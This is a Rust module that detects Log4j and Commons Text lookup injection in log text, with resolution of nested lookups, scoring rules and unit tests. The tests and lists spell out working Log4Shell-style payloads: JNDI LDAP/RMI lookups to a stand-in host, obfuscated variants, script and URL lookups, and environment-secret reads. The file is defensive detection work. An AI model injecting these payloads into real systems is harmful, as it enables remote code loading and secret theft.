//! Look-ups in log messages (Log4j's and Commons Text's `${…}`): resolved as these resolve them, within one another, and then read.

use super::{Best, Class, contains, places};

/// Look-ups within one another: what has more says nothing that it could not say without. It bounds how often a byte is moved.
const DEPTH: usize = 8;

fn add(best: &mut Best, rule: &'static str, score: u16) {
    best.add(Class::Lookup, rule, score);
}

/// `${` in `text`, in lower case.
pub(super) fn judge(text: &[u8], raw: &[u8], best: &mut Best) {
    let mut behind = 0;
    for at in places(text, b"${") {
        // What is within another was resolved with it.
        if at < behind {
            continue;
        }
        let mut resolved = Resolved::default();
        let length = resolved.run(&text[at..]);
        behind = at + length;
        if resolved.jndi
            || contains(&resolved.text, b"{jndi:")
            || contains(&resolved.text, b"jndi:") && resolved.hidden
        {
            add(best, "lookup-jndi", 100);
        }
        // What is left is the `$` of the look-up behind it.
        resolved.hidden |= resolved.text.last() == Some(&b'$') && text[behind..].starts_with(b"{");
        let alone = text.len() <= 64;
        // Log4j's name of the machine, by its one upper letter: `${hostname}` is everyone's.
        resolved.asks |= raw[at..].starts_with(b"${hostName}");
        if resolved.runs {
            add(best, "lookup-runs", 85);
        } else if resolved.asks && alone {
            add(best, "lookup-asks", 65);
        } else if resolved.hidden {
            add(best, "lookup-nested", 85);
        }
        if best.certain() {
            return;
        }
    }
}

#[derive(Default)]
struct Resolved {
    /// What the text has become.
    text: Vec<u8>,
    /// Where the look-ups begin in it that are still open.
    open: Vec<usize>,
    /// One asks a directory.
    jndi: bool,
    /// One runs a script, or reads a file or an address.
    runs: bool,
    /// One asks for a secret, or for what the server is.
    asks: bool,
    /// One only writes letters: of what another is made.
    hidden: bool,
    /// One within another writes a letter or two; that counts where the other ends.
    within: bool,
}

impl Resolved {
    /// Resolves the look-up that `text` begins with, and says how long it is. One that does not end goes to the end.
    fn run(&mut self, text: &[u8]) -> usize {
        let mut at = 0;
        while let Some(&byte) = text.get(at) {
            if text[at..].starts_with(b"${") && self.open.len() == DEPTH {
                self.hidden = true;
                return text.len();
            }
            if text[at..].starts_with(b"${") {
                self.open.push(self.text.len());
                at += 2;
                continue;
            }
            at += 1;
            if byte != b'}' {
                self.text.push(byte);
                continue;
            }
            let Some(start) = self.open.pop() else { break };
            self.close(start);
            if self.open.is_empty() {
                self.hidden |= self.within;
                return at;
            }
        }
        // What is left open is read as if it ended here.
        while let Some(start) = self.open.pop() {
            self.jndi |= self.text[start..].starts_with(b"jndi:");
        }
        at
    }

    /// Puts what the look-up from `start` on stands for in its place.
    fn close(&mut self, start: usize) {
        let name = self.text.split_off(start);
        let inner = !self.open.is_empty();
        self.jndi |= name.starts_with(b"jndi:");
        self.runs |= RUNS.iter().any(|kind| name.starts_with(kind)) && name.len() > 8;
        self.asks |= !inner && asks(&name);
        let value = value(&name);
        // `${env:X:-default}` alone is Spring's, Compose's and a shell's too: it hides something only within another, and only a few letters.
        let letters = name.starts_with(b"lower:") || name.starts_with(b"upper:") || name.starts_with(b"::-");
        self.hidden |= letters && value.len() <= 8;
        self.within |= inner && !value.is_empty() && value.len() <= 2 && contains(&name, b":");
        self.text.extend_from_slice(value);
    }
}

/// What runs or fetches something: Commons Text's and Log4j's.
const RUNS: [&[u8]; 11] = [
    b"script:",
    b"url:utf",
    b"url:http",
    b"dns:",
    b"file:utf",
    b"urldecoder:",
    b"base64decoder:",
    b"const:java",
    b"xml:/",
    b"properties:/",
    b"resourcebundle:",
];

/// What asks the server about itself or its secrets.
fn asks(name: &[u8]) -> bool {
    let secret = [&b"secret"[..], b"password", b"passwd", b"token", b"aws_access", b"private"];
    match name.iter().position(|byte| *byte == b':').map(|at| (&name[..at], &name[at + 1..])) {
        Some((b"env", name)) => secret.iter().any(|word| contains(name, word)) || name.starts_with(b"java_"),
        Some((b"sys", name)) => {
            let asked = [&b"java."[..], b"os.", b"user."];
            asked.iter().any(|known| name.starts_with(known)) && !name.starts_with(b"java.io.")
        }
        Some((b"java", name)) => matches!(name, b"version" | b"runtime" | b"vm" | b"os" | b"locale" | b"hw"),
        Some((b"docker" | b"k8s", name)) => name.len() > 2 && name.iter().all(u8::is_ascii_alphanumeric),
        Some((b"ctx" | b"main" | b"web" | b"spring" | b"bundle" | b"log4j", name)) => !name.is_empty(),
        Some((b"properties" | b"xml", name)) => contains(name, b"::") || contains(name, b":/"),
        _ => false,
    }
}

/// The text that a look-up stands for, as far as it is known: a default, or letters.
fn value(name: &[u8]) -> &[u8] {
    if let Some(letters) = name.strip_prefix(b"lower:").or_else(|| name.strip_prefix(b"upper:")) {
        return letters;
    }
    if let Some(at) = super::find(name, b":-") {
        return &name[at + 2..];
    }
    if let Some(format) = name.strip_prefix(b"date:") {
        return format.strip_prefix(b"'").and_then(|text| text.strip_suffix(b"'")).unwrap_or_default();
    }
    b""
}

#[cfg(test)]
mod tests {
    use super::*;

    fn score(text: &str) -> u16 {
        let mut best = Best::default();
        judge(text.to_lowercase().as_bytes(), text.as_bytes(), &mut best);
        best.0.map_or(0, |hit| hit.score)
    }

    #[test]
    fn look_ups_are_found_in_whatever_they_are_hidden() {
        for attack in [
            "${jndi:ldap://e.example/a}",
            "x ${jndi:rmi://e.example",
            "${${lower:j}ndi:x}",
            "${${::-j}${::-n}${::-d}${::-i}:x}",
            "${${date:'j'}ndi:x}",
            "${jn${date:}di:x}",
            "${j${k8s:k5:-ND}i:x}",
            "${${env:A:-${lower:j}}ndi:x}",
            "${jndi${sys:x:-:}ldap://e.example}",
            "$${env:a:-${env:b:-$}{jndi:ldap://e.example/w}}}",
            "${${${:-l}${:-o}wer:j}ndi:x}",
            "${script:js:7*7}",
            "${url:UTF-8:http://e.example/}",
            "${dns:e.example}",
            "${env:DB_PASSWORD}",
            "a${sys:java.version}",
            "${hostName}",
        ] {
            assert!(score(attack) >= 60, "{attack}: {}", score(attack));
        }
    }

    #[test]
    fn nothing_hides_behind_or_within_many_others() {
        let (plain, hidden) = ("${jndi:ldap://e.example}", "${${lower:j}ndi:x}");
        for padding in ["${a}".repeat(1_000), "${".to_owned(), "${x:".repeat(5), "x".repeat(100_000)] {
            for attack in [plain, hidden] {
                assert_eq!(
                    score(&format!("{padding}{attack}")),
                    100,
                    "{attack} behind {} bytes",
                    padding.len()
                );
            }
        }
        for depth in [7, 8, 9, 100] {
            let (open, close) = ("${lower:".repeat(depth), "}".repeat(depth));
            assert!(score(&format!("${{{open}j{close}ndi:x}}")) >= 60, "{depth} within one another");
        }
        assert_eq!(score(&format!("${{${{env:{}:-j}}ndi:x}}", "x".repeat(10_000))), 100);
    }

    #[test]
    fn placeholders_of_templates_and_settings_are_no_look_ups() {
        for benign in [
            "${name}",
            "${env:HOME}/bin",
            "${env:STAGE}",
            "${PORT:-8080}",
            "${server.port:8080}",
            "${{ github.ref }}",
            "${a}${b}${c}",
            "`${x ? `${y}` : 'z'}`",
            "${VERSION:-${DEFAULT_VERSION:-1.2.3}}",
            "${file:./settings.yml}",
            "${workspaceFolder}/x",
            "${hostname}:8080",
            "${date:yyyy-MM-dd}",
        ] {
            assert!(score(benign) < 60, "{benign}: {}", score(benign));
        }
    }

    #[test]
    fn what_never_ends_is_read_once() {
        let start = std::time::Instant::now();
        for text in ["${".repeat(40_000), "${a:-".repeat(20_000), "${a}".repeat(20_000), "}".repeat(80_000)] {
            score(&text);
        }
        assert!(start.elapsed().as_secs() < 2);
    }
}
